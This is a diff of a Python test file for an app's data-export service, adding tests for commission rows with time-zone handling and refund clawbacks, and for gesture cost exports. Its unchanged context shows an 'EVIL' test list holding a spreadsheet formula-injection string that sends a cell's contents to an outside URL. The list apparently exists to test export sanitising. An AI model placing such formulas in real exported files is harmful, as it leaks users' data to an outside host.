@@ -3,7 +3,7 @@
 import csv
 import io
 import json
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 
 import openpyxl
 import pytest
@@ -11,10 +11,11 @@ import pytest
 from concierge.domain.errors import UserError
 from concierge.domain.views.desk import CommissionFilter, GestureFilter
 from concierge.services.exports import FORMATS, TABLES, export
+from concierge.services.gestures import approve_gesture, order_gesture, send_gesture
 from concierge.services.ingest import StoreIngest
 from tests.fakes import records as r
 from tests.fakes.contacts import call, plan, sold
-from tests.fakes.house import fill
+from tests.fakes.house import fill, person
 
 EVIL = [
     '=HYPERLINK("http://example.com/?"&A1,"click")',
@@ -132,3 +133,29 @@ def test_every_table_holds_what_happened(earned):
 def test_an_unknown_table_or_format_says_what_there_is(local_workplace, what, kind):
     with pytest.raises(UserError, match=r"clients|xlsx"):
         export(local_workplace, what, kind)
+
+
+def test_payroll_reads_the_house_s_month_and_day_and_what_is_taken_back(local_workplace):
+    (client,) = fill(local_workplace)
+    midnight = datetime(2026, 5, 31, 22, 30, tzinfo=UTC)  # half past midnight in Paris
+    call(local_workplace, client, midnight - timedelta(hours=1))
+    sale = r.order(1, placed_at=midnight, refunds=(r.refund(1, 40_000, at=r.NOW),))
+    StoreIngest(local_workplace).apply(1, "orders", [sale], None)
+    rows = {row["kind"]: row for row in csv_rows(export(local_workplace, "commissions", "csv"))}
+    credit, back = rows["credit"], rows["clawback"]
+    assert (credit["month"], credit["day"], credit["takes_back"]) == ("2026-06", "2026-06-01", "")
+    assert (back["month"], back["day"], back["takes_back"]) == (
+        "2026-06",
+        "2026-06-11",
+        credit["line"],
+    )
+
+
+def test_a_gesture_that_cost_nothing_in_the_end_says_so(local_workplace):
+    (client,) = fill(local_workplace)
+    gesture = plan(local_workplace, client)
+    approve_gesture(person(local_workplace, "Margaux Vidal"), gesture)
+    order_gesture(local_workplace, gesture)
+    assert json.loads(export(local_workplace, "gestures", "json"))[0]["final_cost"] is None
+    send_gesture(local_workplace, gesture, r.eur(0))
+    assert json.loads(export(local_workplace, "gestures", "json"))[0]["final_cost"] == "0.00"
